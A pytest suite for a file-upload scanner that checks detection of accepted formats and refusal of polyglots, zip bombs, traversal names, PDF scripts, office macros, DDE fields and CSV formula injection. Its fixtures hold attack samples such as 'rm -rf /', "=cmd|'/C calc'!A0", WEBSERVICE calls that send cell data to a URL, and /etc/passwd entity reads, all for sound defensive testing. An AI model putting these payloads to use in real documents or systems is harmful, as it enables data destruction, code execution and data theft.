"""Each kind of evidence is known by its content, and refused when it acts, hides, unfolds without end, or is two."""

from __future__ import annotations

import base64
import io
import struct
import time
import zlib
from typing import Any
from zipfile import ZIP_STORED, ZipFile

import pytest
from PIL import Image

from adapters.files.inspection.found import (
    ACCEPTED,
    CSV,
    DOCX,
    JPEG,
    M4A,
    MP3,
    MP4,
    ODP,
    ODS,
    ODT,
    PDF,
    PNG,
    PPTX,
    TEXT,
    WEBP,
    XLSX,
    ZIP,
    Found,
)
from adapters.files.inspection.kinds import check, picture
from adapters.files.inspection.refusals import (
    ALL,
    ActiveContent,
    ArchiveLimits,
    ImageTooLarge,
    InspectionLimits,
    InvalidFile,
    TypeMismatch,
    UnsafeNames,
    Unscannable,
)
from domain.refusal import Refused
from tests import specimens as made

APPEND = b"<html><script>alert(1)</script></html>"


def look(content: bytes) -> Found:
    return check(io.BytesIO(content))


def refused(content: bytes) -> type[Refused] | None:
    try:
        look(content)
    except Refused as refusal:
        return type(refusal)
    return None


SOUND_FILES = {
    "pdf": (made.PDF, PDF),
    "png": (made.picture("PNG"), PNG),
    "jpeg": (made.picture("JPEG"), JPEG),
    "webp": (made.picture("WEBP"), WEBP),
    "docx": (made.office(), DOCX),
    "xlsx": (made.office(family="xl"), XLSX),
    "pptx": (made.office(("ppt/slides/slide1.xml", b"<s/>"), family="ppt"), PPTX),
    "odt": (made.opendocument(), ODT),
    "ods": (made.opendocument(kind="spreadsheet"), ODS),
    "odp": (made.opendocument(kind="presentation", body=b"<draw:page/><draw:page/>"), ODP),
    "mp3": (made.sound(), MP3),
    "mp3 with tags": (made.sound(tag=b"ID3\x03\0\0\0\0\0\x0a" + bytes(10), after=b"TAG" + bytes(125)), MP3),
    "mp4": (made.film(), MP4),
    "m4a": (made.film(brand=b"M4A "), M4A),
    "text": ("Réussi : je l'ai fait.\n".encode(), TEXT),
    "text of old windows": ("Déjà vu, ça et là : 12 €.\r\n".encode("cp1252"), TEXT),
    "text in UTF-16": (b"\xff\xfe" + "été".encode("utf-16-le"), TEXT),
    "text with its mark": (b"\xef\xbb\xbfnotes", TEXT),
    "table": (b"nom;note\r\nA;12\r\nB;14\r\n", CSV),
    "table of old windows": ("prénom;note\r\nZoé;12\r\n".encode("cp1252"), CSV),
    "prose with commas": (b"Hier, je suis venu\nDemain, je repars\n", TEXT),
    "zip": (made.zipped(("a/cv.pdf", made.PDF), ("b.docx", made.office()), ("note.txt", b"oui")), ZIP),
    "zip of a mac": (made.zipped(("cv.pdf", made.PDF), ("__MACOSX/._cv.pdf", b"\0\5\x16\7" + bytes(60))), ZIP),
    "zip with a folder": (made.zipped(("a/", b""), ("a/empty.txt", b""), ("a/b.txt", b"b")), ZIP),
}


@pytest.mark.parametrize("name", SOUND_FILES)
def test_a_sound_file_is_known_by_its_content(name: str) -> None:
    content, media_type = SOUND_FILES[name]
    assert look(content).media_type == media_type
    assert media_type in ACCEPTED


def test_pages_and_slides_are_counted() -> None:
    assert look(made.PDF).pages == 1
    assert look(SOUND_FILES["pptx"][0]).pages == 1
    assert look(SOUND_FILES["odp"][0]).pages == 2
    assert look(b"notes").pages is None


@pytest.mark.parametrize("kind", ["PNG", "JPEG", "WEBP"])
def test_a_thumbnail_is_small_and_carries_nothing_but_its_points(kind: str) -> None:
    target, exif = io.BytesIO(), Image.Exif()
    exif[0x010E] = "48.8584, 2.2945"
    Image.new("RGB", (900, 600), "teal").save(target, kind, exif=exif, icc_profile=b"profile of a screen" * 9)
    assert b"48.8584" in target.getvalue()
    thumbnail = look(target.getvalue()).thumbnail
    assert thumbnail
    assert b"48.8584" not in thumbnail
    assert b"profile" not in thumbnail
    with Image.open(io.BytesIO(thumbnail)) as drawn:
        assert (drawn.format, drawn.size) == ("WEBP", (320, 213))
        assert not drawn.getexif()


def test_a_photograph_that_lies_on_its_side_is_shown_upright() -> None:
    target, exif = io.BytesIO(), Image.Exif()
    exif[0x0112] = 6
    Image.new("RGB", (400, 200), "teal").save(target, "JPEG", exif=exif)
    thumbnail = look(target.getvalue()).thumbnail
    assert thumbnail
    with Image.open(io.BytesIO(thumbnail)) as drawn:
        assert drawn.size == (160, 320)


def test_the_first_page_of_a_pdf_is_drawn() -> None:
    found = look(made.PDF)
    drawn = picture(io.BytesIO(made.PDF), found)
    assert drawn
    with Image.open(io.BytesIO(drawn)) as page:
        assert page.size == (227, 320)
        assert len(page.convert("L").getcolors() or ()) > 3  # a word stands on it


# 5, 7, 8: what it is not


OTHERS = {
    "a program of Linux": made.ELF,
    "a program of Windows": made.PROGRAM,
    "a drawing with a script": made.SVG,
    "a page": made.HTML,
    "a page after blanks": b"\r\n \xef\xbb\xbf"[:3] + made.HTML,
    "a page in UTF-16": b"\xff\xfe" + made.HTML.decode().encode("utf-16-le"),
    "XML": b"<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'/>",
    "a script": b"#!/bin/sh\nrm -rf /\n",
    "rich text": b"{\\rtf1 text}",
    "PostScript": b"%!PS-Adobe-3.0\n",
    "a photograph of another kind": made.box(b"ftyp", b"heic", bytes(4), b"mif1") + made.box(b"meta", bytes(40)),
    "an older office file": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
    "noise": bytes(range(256)) * 8,
    "mostly accents": "éèàùçôî".encode("cp1252") * 30,
    "a PDF after something": b"GIF89a\n" + made.PDF,
    "a text with a PDF in it": b"note\n" + made.PDF,
    "a PDF of no version": b"%PDF-x" + made.PDF[6:],
    "a PDF and a page": made.PDF + APPEND,
    "a PDF that begins as a page too": made.PDF.replace(b"%PDF-1.4\n", b"%PDF-1.4\n%" + APPEND + b"\n"),
    "a PDF and a ZIP": made.PDF + made.zipped(("x.html", APPEND)),
    "a PDF with a ZIP before its end": made.PDF[:-6] + made.zipped(("x", APPEND)) + b"%%EOF",
    "a PNG and a ZIP": made.picture("PNG") + made.zipped(("x", APPEND)),
    "a PNG and a page": made.picture("PNG") + APPEND,
    "a JPEG and a ZIP": made.picture("JPEG") + made.zipped(("x", APPEND)),
    "a JPEG and a page": made.picture("JPEG") + APPEND,
    "a JPEG with a telephone's record and a page": made.picture("JPEG") + APPEND + b"SEFT",
    "a WebP and a page": made.picture("WEBP") + APPEND,
    "a sound and a page": made.sound(after=APPEND),
    "a sound and a ZIP": made.sound(after=b"TAG" + made.zipped(("x", APPEND))),
    "a sound of one frame": made.sound(1),
    "a ZIP after a page": APPEND + made.zipped(("x.txt", b"x")),
    "a ZIP and a page": made.zipped(("x.txt", b"x")) + APPEND,
    "a ZIP with a page in it": made.zipped(("x.txt", made.HTML)),
    "a ZIP with a program in it": made.zipped(("cv.pdf", made.ELF)),
}


@pytest.mark.parametrize("name", OTHERS)
def test_what_is_not_of_the_list_or_is_two_files_at_once_is_refused(name: str) -> None:
    assert refused(OTHERS[name]) is TypeMismatch


def with_archive(
    before: bytes, after: bytes = b"", *, name: bytes = b"x", too_long: int = 0, moved: int = 0
) -> bytes:
    """A file with a ZIP in it, whose end record says so many bytes too many of its directory or its place."""
    entries, directory = parts_of(made.zipped(("x", APPEND)))
    directory = (directory[:-1] + name).replace(b"PK\1\2\x14\3\x14\0\0\0", b"PK\1\2\x14\3\x14\0\0\x08")
    end = end_of(1, len(directory) + too_long, len(before) + len(entries) + moved)
    return before + entries + directory + end + after


@pytest.mark.parametrize(
    "changed",
    [{}, {"name": b"\xff"}, {"too_long": 5}, {"moved": 5}],
    ids=["sound", "a name of no letters", "too long", "moved"],
)
def test_an_archive_that_some_reader_would_open_is_found_at_the_end_of_a_file(changed: dict[str, Any]) -> None:
    assert refused(with_archive(made.sound() + b"TAG", **changed)) is TypeMismatch
    assert refused(with_archive(made.PDF[:-6], b"\n%%EOF\n", **changed)) is TypeMismatch


def test_four_bytes_that_happen_to_stand_at_the_end_of_a_file_are_no_archive() -> None:
    assert look(made.sound(after=b"TAG" + b"PK\x05\x06" + b"\x11" * 121)).media_type == MP3
    assert look(made.sound(after=b"TAG" + b"\x11" * 121 + b"PK\x05\x06")).media_type == MP3


def test_a_photograph_keeps_what_telephones_put_after_it() -> None:
    photo = made.picture("JPEG")
    for after in (photo, bytes(200), made.film(), b"\0\1SEFH record SEFT"):
        assert look(photo + after).media_type == JPEG


# 9 to 11: archives


def shared_bytes() -> bytes:
    """Many entries of the directory that share one entry's bytes."""
    content = made.zipped(("a.txt", b"a" * 50), method=ZIP_STORED)
    directory = content.index(b"PK\x01\x02")
    entry = content[directory : content.index(b"PK\x05\x06")]
    entries = b"".join(entry.replace(b"a.txt", b"%c.txt" % letter) for letter in b"bcdefgh")
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 8, 8, len(entry) * 8, directory, 0)
    return content[:directory] + entry + entries + end


def lying(content: bytes, said: int) -> bytes:
    """The same archive, whose directory promises so many bytes."""
    at = content.index(b"PK\x01\x02") + 24
    return content[:at] + struct.pack("<I", said) + content[at + 4 :]


def many(count: int) -> bytes:
    return made.zipped(*((f"{number}.txt", b"x") for number in range(count)), method=ZIP_STORED)


BOMBS = {
    "large once unpacked": made.zipped(("a.txt", bytes(20 * 1024**2))),
    "said to be 4 GB": lying(made.zipped(("a.txt", b"a" * 42_000)), 0xFFFFFFF0),
    "of many entries": many(10_001),
    "with shared bytes": shared_bytes(),
    "within another": made.zipped(("a.zip", made.zipped(("b.txt", b"b")))),
    "within an office file": made.office(("word/media/a.zip", made.zipped(("b.txt", b"b")))),
    "within an OpenDocument": made.opendocument(("Pictures/a.png", made.zipped(("b.txt", b"b")))),
    "office files in office files": made.office(
        (
            "word/embeddings/a.xlsx",
            made.office(("xl/embeddings/b.docx", made.office(("word/embeddings/c.docx", made.office())))),
        )
    ),
}


@pytest.mark.parametrize("name", BOMBS)
def test_an_archive_that_unfolds_beyond_reason_is_refused_at_once(name: str) -> None:
    begun = time.process_time()
    assert refused(BOMBS[name]) is ArchiveLimits
    assert time.process_time() - begun < 2


def test_an_entry_is_never_unpacked_beyond_what_it_says() -> None:
    assert refused(lying(made.zipped(("a.txt", b"a" * 42_000)), 10)) is InvalidFile


@pytest.mark.parametrize(
    "name",
    [
        "../a.txt",
        "/a.txt",
        "C:\\a.txt",
        "a/../../b.txt",
        "a\\..\\..\\b.txt",
        "a\0b.txt",
        "\0b.txt",
        "a//b",
        "./a",
        "a\nb",
        "\u202ea",
    ],
)
def test_a_name_that_leads_out_of_the_archive_or_hides_is_refused(name: str) -> None:
    placeholder = made.zipped(("N" * len(name.encode()), b"x"))
    content = placeholder.replace(b"N" * len(name.encode()), name.encode())
    if not name.isascii():  # names in UTF-8 say so
        content = content.replace(b"PK\x03\x04\x14\0\0\0", b"PK\x03\x04\x14\0\0\x08").replace(
            b"PK\x01\x02\x14\x03\x14\0\0\0", b"PK\x01\x02\x14\x03\x14\0\0\x08"
        )
    assert refused(content) is UnsafeNames


@pytest.mark.parametrize("mode", [0o120777, 0o020644, 0o010644])
def test_a_link_or_a_device_in_an_archive_is_refused(mode: int) -> None:
    assert refused(made.zipped((made.info("a.txt", mode), b"/etc/passwd"))) is UnsafeNames


def test_the_same_name_twice_in_an_archive_is_refused() -> None:
    assert refused(made.zipped(("a.txt", b"a"), ("b.txt", b"b")).replace(b"b.txt", b"a.txt")) is UnsafeNames


def test_an_archive_whose_headers_disagree_or_that_has_room_for_more_is_refused() -> None:
    content = made.zipped(("a.txt", b"a"), ("b.txt", b"b"))
    second = content.index(b"PK\x03\x04", 4)
    assert refused(content.replace(b"PK\x03\x04\x14\0\0\0\x08", b"PK\x03\x04\x14\0\0\0\0", 1)) is InvalidFile
    with ZipFile(io.BytesIO(content)) as archive:
        assert archive.namelist() == ["a.txt", "b.txt"]
    directory = content.index(b"PK\x01\x02")
    first = content[directory : content.index(b"PK\x01\x02", directory + 4)]
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 1, 1, len(first), directory, 0)
    assert refused(content[:directory] + first + end) is TypeMismatch  # the second is in the file, not in the list
    assert refused(content[:second] + b"x" * 7 + content[second:]) in {TypeMismatch, InvalidFile}


def parts_of(content: bytes) -> tuple[bytes, bytes]:
    """An archive's entries, and its directory."""
    directory = content.index(b"PK\x01\x02")
    return content[:directory], content[directory : content.rindex(b"PK\x05\x06")]


def end_of(entries: int, size: int, start: int) -> bytes:
    """The end record that says so."""
    return struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, entries, entries, size, start, 0)


def test_an_archive_has_one_directory_however_one_looks_for_it() -> None:
    """One reader goes back from the end by the directory's size, another to where the end record says."""
    seen, directory = parts_of(made.zipped(("a.txt", b"harmless")))
    hidden, other = parts_of(made.zipped(("b.exe", made.PROGRAM)))
    at = len(seen) + len(directory)
    other = other[:42] + struct.pack("<I", at) + other[46:]
    comment = hidden + other
    said = at + len(hidden)  # where the other one stands, in the comment of the first one's only entry
    directory = directory[:32] + struct.pack("<H", len(comment)) + directory[34:42]
    directory += struct.pack("<I", said - len(seen)) + b"a.txt" + comment
    content = seen + directory + end_of(1, len(directory), said)
    with ZipFile(io.BytesIO(content)) as archive:
        assert archive.read("a.txt") == b"harmless"
    assert refused(content) is TypeMismatch


def test_an_archive_s_end_record_counts_its_entries_in_this_file() -> None:
    entries, directory = parts_of(made.zipped(("a.txt", b"a"), ("b.txt", b"b")))
    assert look(entries + directory + end_of(2, len(directory), len(entries))).media_type == ZIP
    assert refused(entries + directory + end_of(1, len(directory), len(entries))) is TypeMismatch
    second_volume = bytearray(entries + directory + end_of(2, len(directory), len(entries)))
    second_volume[-18] = 1
    assert refused(bytes(second_volume)) is TypeMismatch


def long_end(entries: int, size: int, start: int, here: int) -> bytes:
    """The same in the long form (ZIP64), and where that stands."""
    numbers = (45, 45, 0, 0, entries, entries, size, start)
    return struct.pack("<4sQHHLLQQQQ", b"PK\x06\x06", 44, *numbers) + struct.pack("<4sLQL", b"PK\x06\x07", 0, here, 1)


def test_an_archive_may_say_it_in_the_long_form_as_well_but_nothing_else() -> None:
    entries, directory = parts_of(made.zipped(("a.txt", b"a")))
    short, here = end_of(1, len(directory), len(entries)), len(entries) + len(directory)
    before = entries + directory
    assert look(before + long_end(1, len(directory), len(entries), here) + short).media_type == ZIP
    for other in (
        long_end(2, len(directory), len(entries), here),
        long_end(1, len(directory), len(entries) + 1, here),
        long_end(1, len(directory), len(entries), here - 1),
    ):
        assert refused(before + other + short) is TypeMismatch


def test_an_entry_s_own_header_says_what_the_directory_says() -> None:
    content = made.zipped(("a.txt", b"a" * 100))
    for place in (14, 18, 22):  # its checksum, and how large it is packed and unpacked
        (own,) = struct.unpack("<I", content[place : place + 4])
        for other in (own + 1, 0, 0xFFFFFFFF):
            changed = content[:place] + struct.pack("<I", other) + content[place + 4 :]
            assert refused(changed) is InvalidFile


def test_an_entry_whose_sizes_follow_it_may_leave_them_out_but_tell_no_others() -> None:
    target = made.Streamed()
    with ZipFile(target, "w") as archive:
        archive.writestr("a.txt", b"a" * 100)
    assert look(target.written).media_type == ZIP
    changed = target.written[:22] + struct.pack("<I", 99) + target.written[26:]
    assert refused(changed) is InvalidFile


def test_an_entry_s_sizes_in_the_long_form_are_those_of_the_directory() -> None:
    for target in (io.BytesIO(), made.Streamed()):
        with ZipFile(target, "w") as archive, archive.open("a.txt", "w", force_zip64=True) as entry:
            entry.write(b"a" * 100)
        content = target.written if isinstance(target, made.Streamed) else target.getvalue()
        assert look(content).media_type == ZIP
        sizes = content.index(b"a.txt") + 5 + 4
        assert refused(content[:sizes] + struct.pack("<Q", 99) + content[sizes + 8 :]) is InvalidFile


def test_a_folder_or_an_empty_file_of_an_archive_holds_nothing() -> None:
    content = made.zipped(("a.txt", b"a"), ("b.exe", made.PROGRAM + bytes(range(64))))
    directory = content.rindex(b"b.exe")
    as_folder = content[:directory] + b"b.ex/" + content[directory + 5 :]
    assert refused(as_folder) is InvalidFile
    assert refused(as_folder.replace(b"b.exe", b"b.ex/")) is InvalidFile
    size = content.rindex(b"PK\x01\x02") + 24
    assert refused(content[:size] + bytes(4) + content[size + 4 :]) is InvalidFile
    renamed = made.zipped(("a.txt", b"a"), ("empty.exe", b"")).replace(b"empty.exe", b"empty.txt", 1)
    assert refused(renamed) is InvalidFile
    assert look(made.zipped(("a.txt", b"a"), ("b/", b""), ("empty.txt", b""))).media_type == ZIP


# 12: images


def test_an_image_that_promises_too_many_points_is_refused_from_its_header() -> None:
    begun = time.process_time()
    assert refused(made.png_that_says(60_000, 60_000)) is ImageTooLarge
    assert refused(made.png_that_says(30_001, 1)) is ImageTooLarge
    assert time.process_time() - begun < 1


def test_a_cut_or_changed_image_is_refused() -> None:
    for kind in ("PNG", "JPEG", "WEBP"):
        content = made.picture(kind)
        assert refused(content[: len(content) * 2 // 3]) in {InvalidFile, TypeMismatch}
    png = bytearray(made.picture("PNG"))
    png[60] ^= 1
    assert refused(bytes(png)) is InvalidFile
    assert refused(made.png_that_says(10, 10)) is InvalidFile


# 13, 14, 29: PDF


SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
ACTING = {
    "a script when it opens": made.pdf_of(catalog=b"/OpenAction" + SCRIPT),
    "a script with its name in numbers": made.pdf_of(catalog=b"/OpenAction<</S/J#61vaScript/J#53(x)>>"),
    "a script in the tree of names": made.pdf_of(catalog=b"/Names<</JavaScript<</Names[(a) 5 0 R]>>>>"),
    "a script behind an annotation": made.pdf_of(
        b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A 6 0 R>>", SCRIPT, page=b"/Annots[5 0 R]"
    ),
    "a script packed in a stream of objects": made.pdf_with_hidden(SCRIPT, b"/OpenAction 9 0 R"),
    "a launch packed in a stream of objects": made.pdf_with_hidden(b"<</S/Launch/F(cmd)>>", b"/OpenAction 9 0 R"),
    "a program to start": made.pdf_of(page=b"/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/Launch/F(cmd.exe)>>>>]"),
    "an action when a page is shown": made.pdf_of(page=b"/AA<</O<</S/URI/URI(http://x)>>>>"),
    "an attached file": made.pdf_of(
        b"<</Type/EmbeddedFile/Length 1>>\nstream\nx\nendstream",
        catalog=b"/Names<</EmbeddedFiles<</Names[(a)<</Type/Filespec/F(a)/EF<</F 5 0 R>>>>]>>>>",
    ),
    "rich media": made.pdf_of(page=b"/Annots[<</Subtype/RichMedia/Rect[0 0 9 9]/RichMediaContent<<>>>>]"),
    "a form of XML": made.pdf_of(catalog=b"/AcroForm<</Fields[]/XFA[(template) 5 0 R]>>"),
    "a form that is sent": made.pdf_of(catalog=b"/OpenAction<</S/SubmitForm/F(http://x)>>"),
    "another file that is opened at once": made.pdf_of(catalog=b"/OpenAction<</S/GoToR/F(\\\\\\\\x\\\\a)/D[0/Fit]>>"),
    "an address that is opened at once": made.pdf_of(b"<</S/URI/URI(http://x)>>", catalog=b"/OpenAction 5 0 R"),
    "one that is opened after a turn": made.pdf_of(
        catalog=b"/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next<</S/URI/URI(http://x)>>>>"
    ),
    "a script that no table lists": made.pdf_of().replace(b"xref\n0", b"99 0 obj\n" + SCRIPT + b"\nendobj\nxref\n0"),
    "a script that no page leads to": made.pdf_of(SCRIPT),
}


@pytest.mark.parametrize("name", ACTING)
def test_a_pdf_that_acts_is_refused(name: str) -> None:
    assert refused(ACTING[name]) is ActiveContent


def test_a_link_and_a_bookmark_to_a_page_are_no_action_of_their_own() -> None:
    link = b"/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://example.org)>>>>]"
    assert look(made.pdf_of(catalog=b"/OpenAction[3 0 R/Fit]", page=link)).pages == 1


def test_a_stream_packed_twice_over_or_without_a_reasonable_end_is_refused() -> None:
    twice = made.pdf_stream(zlib.compress(made.flate_bomb(40)), b"[/FlateDecode/FlateDecode]")
    assert refused(made.pdf_of(twice)) is InspectionLimits
    elsewhere = made.pdf_stream(zlib.compress(made.flate_bomb(40)), b"6 0 R")
    assert refused(made.pdf_of(elsewhere, b"[/FlateDecode/FlateDecode]")) is InspectionLimits
    elsewhere = made.pdf_stream(made.flate_bomb(257), b"6 0 R")
    assert refused(made.pdf_of(elsewhere, b"[7 0 R]", b"/FlateDecode")) is InspectionLimits
    once = made.pdf_stream(made.flate_bomb(257))
    assert refused(made.pdf_of(once)) is InspectionLimits
    bomb = made.flate_bomb(257)
    for spelt, name in ((bomb.hex().encode() + b">", b"ASCIIHexDecode"), (base64.a85encode(bomb) + b"~>", b"A85")):
        assert refused(made.pdf_of(made.pdf_stream(spelt, b"[/%s/FlateDecode]" % name))) is InspectionLimits
    assert look(made.pdf_of(made.pdf_stream(zlib.compress(bytes(1024**2))))).pages == 1
    small = base64.a85encode(zlib.compress(b"BT ET")) + b"~>"
    assert look(made.pdf_of(made.pdf_stream(small, b"[/ASCII85Decode/FlateDecode]"))).pages == 1


def test_a_pdf_whose_action_is_named_by_a_reference_to_itself_is_refused() -> None:
    assert refused(made.pdf_of(b"5 0 R", page=b"/A<</S 5 0 R>>")) is InvalidFile


def test_an_encrypted_pdf_is_refused() -> None:
    locked = b"/Encrypt<</Filter/Standard/V 1/R 2/O(%s)/U(%s)/P -4>>/ID[(a)(a)]" % (b"o" * 32, b"u" * 32)
    assert refused(made.pdf_of(trailer=locked)) is Unscannable


def test_a_pdf_that_is_cut_or_has_no_page_is_refused() -> None:
    assert refused(made.PDF[:200]) is InvalidFile
    assert refused(made.PDF.replace(b"/Kids[3 0 R]/Count 1", b"/Kids[     ]/Count 0")) is InvalidFile


# 15, 16, 29: office files

DOCTYPE = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
LAUGHS = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>'
ACTIVE_OFFICE = {
    "macros": made.office(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1")),
    "macros in a table": made.office(("xl/vbaProject.bin", b"\0"), family="xl"),
    "a kind with macros": made.office(main="application/vnd.ms-word.document.macroEnabled.main+xml"),
    "macros of the older kind in a table": made.office(
        types='<Override PartName="/xl/macrosheets/s.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>',
        family="xl",
    ),
    "an external template": made.office(
        ("word/_rels/settings.xml.rels", made.relations(("attachedTemplate", "http://x/a.dotm", True)))
    ),
    "an external picture": made.office(
        ("word/_rels/document.xml.rels", made.relations(("image", "http://x/a.png", True)))
    ),
    "another table": made.office(
        ("xl/_rels/a.xml.rels", made.relations(("externalLinkPath", "file:///a", True))), family="xl"
    ),
    "an object": made.office(
        ("word/_rels/document.xml.rels", made.relations(("oleObject", "embeddings/o.bin", False)))
    ),
    "an older office file in it": made.office(("word/embeddings/a.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1")),
    "a page that is taken in": made.office(
        ("word/_rels/document.xml.rels", made.relations(("aFChunk", "a.html", False)))
    ),
    "a control": made.office(("word/activeX/activeX1.xml", b"<x/>")),
    "a program": made.office(("word/media/a.png", made.PROGRAM)),
    "a field that starts a program": made.office(
        body=b"<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd</w:instrText></w:r>"
    ),
    "a field whose words are spread out": made.office(
        body=b"<w:r><w:instrText>D</w:instrText> </w:r>\n<w:r><w:instrText>DEAUTO cmd</w:instrText></w:r>"
    ),
    "a field right after another": made.office(
        body=b'<w:fldChar w:fldCharType="begin"/><w:instrText>PAGE</w:instrText><w:fldChar w:fldCharType="end"/>'
        b'<w:fldChar w:fldCharType="begin"/><w:instrText>DDEAUTO cmd</w:instrText><w:fldChar w:fldCharType="end"/>'
    ),
    "a field in what was crossed out": made.office(body=b"<w:r><w:delInstrText>DDEAUTO cmd</w:delInstrText></w:r>"),
    "a slide whose click starts a program": made.office(
        ("ppt/slides/slide1.xml", b'<s><hlinkMouseOver action="ppaction://program"/></s>'), family="ppt"
    ),
    "a simple field that does": made.office(body=b'<w:fldSimple w:instr="dde cmd"/>'),
    "a table beneath a chart with macros": made.office(
        ("word/embeddings/a.xlsx", made.office(("xl/vbaProject.bin", b"\0"), family="xl"))
    ),
    "Basic": made.opendocument(("Basic/Standard/Module1.xml", b"<x/>")),
    "a script in Python": made.opendocument(("Scripts/python/a.py", b"import os")),
    "a listener": made.opendocument(
        body=b'<script:event-listener script:language="ooo:script" xlink:href="vnd.sun.star.script:x"/>'
    ),
    "a slide that starts a program": made.opendocument(
        kind="presentation", body=b'<presentation:event-listener presentation:action="execute"/>'
    ),
    "a link that runs a macro": made.opendocument(
        body=b'<text:a xlink:href="vnd.sun.star.script:x$y?language=Python"/>'
    ),
    "a link that runs a command": made.opendocument(body=b'<text:a xlink:href=" Macro:///A.B.C"/>'),
    "a picture from elsewhere": made.opendocument(body=b'<draw:image xlink:href="http://x/a.png"/>'),
    "a button's picture from elsewhere": made.opendocument(
        body=b'<f:button xmlns:f="urn:oasis:names:tc:opendocument:xmlns:form:1.0" f:image-data="http://x/a.png"/>'
    ),
    "words of a form from elsewhere": made.opendocument(
        body=b'<x:instance xmlns:x="http://www.w3.org/2002/xforms" src="http://x/a.xml"/>'
    ),
    "a form that is sent": made.opendocument(
        body=b'<x:submission xmlns:x="http://www.w3.org/2002/xforms" action="http://x/" method="post"/>'
    ),
    "a form that is sent, as it is said since 1.1": made.opendocument(
        body=b'<x:submission xmlns:x="http://www.w3.org/2002/xforms" resource="http://x/" method="post"/>'
    ),
    "a letter to many, whose addresses are elsewhere": made.office(
        ("word/settings.xml", b'<w:s xmlns:w="w"><w:mailMerge><w:connectString w:val="DSN=x"/></w:mailMerge></w:s>')
    ),
    "a film on a page that is shown in it": made.office(
        body=b'<a:webVideoPr xmlns:a="a" embeddedHtml="&lt;iframe src=&quot;https://x&quot;>"/>'
    ),
    "a program beside the text": made.office(
        ("word/_rels/a.rels", made.relations(("webextensiontaskpanes", "webextensions/taskpanes.xml", False)))
    ),
    "a DDE link": made.opendocument(body=b"<text:dde-connection-decl/>"),
}


@pytest.mark.parametrize("name", ACTIVE_OFFICE)
def test_an_office_file_that_acts_or_fetches_is_refused(name: str) -> None:
    assert refused(ACTIVE_OFFICE[name]) is ActiveContent


TABLE = b' xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"'


def sheet(formula: bytes, around: bytes = b"f") -> bytes:
    """A workbook with one formula."""
    return made.office(("xl/worksheets/sheet1.xml", b"<s><%s>%s</%s></s>" % (around, formula, around)), family="xl")


def cell(formula: bytes, attribute: bytes = b"formula") -> bytes:
    """The same of OpenDocument."""
    body = b'<table:x%s table:%s="%s"/>' % (TABLE, attribute, formula)
    return made.opendocument(kind="spreadsheet", body=body)


FETCHING = {
    "DDE in a cell": cell(b"of:=DDE(&quot;soffice&quot;;&quot;/etc/passwd&quot;;&quot;A1&quot;)"),
    "a page in a cell": cell(b"of:=COM.MICROSOFT.WEBSERVICE&#32; (&quot;https://example.org&quot;)"),
    "a page behind a name": cell(b"of:=WebService(&quot;https://example.org&quot;)", b"expression"),
    "a page in a validity": cell(b"of:cell-content-is-in-list(WEBSERVICE([.A1]))", b"condition"),
    "a page in a conditional format": cell(b"formula-is(WEBSERVICE([.A1]))", b"value"),
    "a page in a cell of a workbook": sheet(b'_xlfn.WEBSERVICE("https://example.org")'),
    "a page in pieces": sheet(b"_xlfn.WEB<![CDATA[SER]]>V&#73;CE&#10;&#40;A1)"),
    "a page behind a name of a workbook": sheet(b"_xlfn.webservice(A1)", b"definedName"),
    "a page in a validity of a workbook": sheet(b"_xlfn.WEBSERVICE(A1)", b"formula1"),
    "a page within a formula within one": sheet(b"1<f>2</f>WEBSERVICE(A1)"),
    "a page in a pivot's field": made.office(
        ("xl/pivotCache/p.xml", b"<p><cacheField formula='WEBSERVICE(A)'/></p>"), family="xl"
    ),
    "DDE in a workbook": sheet(b'DDE("soffice","/etc/passwd","A1")'),
    "a cell of another file": cell(b"of:=[&apos;http://example.org/a.ods&apos;#$Sheet1.A1]"),
    "a name of another file": cell(b"of:=1+&quot;&quot;&amp;&apos;../a.ods&apos;#NAME", b"expression"),
    "another program's figures": sheet(b'RTD("a.program",,"x")'),
    "a picture of a page": sheet(b'_xlfn.IMAGE("https://example.org/a.png")'),
    "another text": made.office(body=b'<w:fldSimple w:instr=" INCLUDETEXT &quot;/etc/passwd&quot; "/>'),
    "another table": made.office(
        body=b'<w:fldChar w:fldCharType="begin"/><w:instrText> LI</w:instrText><w:instrText>NK Excel.Sheet.12 a'
        b'</w:instrText><w:fldChar w:fldCharType="end"/>'
    ),
    "a picture that is fetched anew": made.office(
        body=b'<w:fldChar w:fldCharType="begin" w:dirty="true"/><w:instrText>INCLUDEPICTURE "https://example.org/a"'
        b'</w:instrText><w:fldChar w:fldCharType="end"/>'
    ),
}


@pytest.mark.parametrize("name", FETCHING)
def test_a_formula_or_a_field_brings_in_nothing_from_elsewhere(name: str) -> None:
    assert refused(FETCHING[name]) is ActiveContent


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "cp1252"])
def test_a_table_in_text_fetches_nothing_and_asks_no_program(encoding: str) -> None:
    """A spreadsheet computes what begins so (OWASP, CSV injection)."""
    rows = "métier;note\r\n" + "A;12\r\n" * 20_000
    assert look(rows.encode(encoding)).media_type == CSV
    for formula in (
        "=cmd|'/C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|x!A0",
        '"=WEBSERVICE(""https://example.org/""&A1)"',
        '  "-serviceweb(A1)"',
        '=IMAGE("https://example.org/a.png")',
    ):
        assert refused(f"{rows}{formula};1\r\n".encode(encoding)) is ActiveContent
        assert refused(f"{rows}1;{formula}\r\n{rows}".encode(encoding)) is ActiveContent


